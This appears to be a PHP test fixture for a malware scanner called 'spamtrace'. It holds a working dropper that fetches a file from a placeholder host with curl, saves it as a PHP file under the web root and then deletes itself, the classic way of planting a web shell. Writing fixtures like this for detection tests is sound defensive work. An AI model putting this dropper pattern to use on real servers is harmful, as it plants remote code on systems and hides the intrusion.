<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A one-shot dropper that downloads through a helper of its own, writes the result to a
// .php path built from the document root, and deletes itself. The address is reserved.
function grab($u)
{
    $c = curl_init($u);
    curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
    return curl_exec($c);
}
$dest = $_SERVER['DOCUMENT_ROOT'] . '/cache/item.php';
$body = grab('http://example.invalid/item.txt');
$h = fopen($dest, 'w');
fwrite($h, $body);
fclose($h);
@unlink(__FILE__);
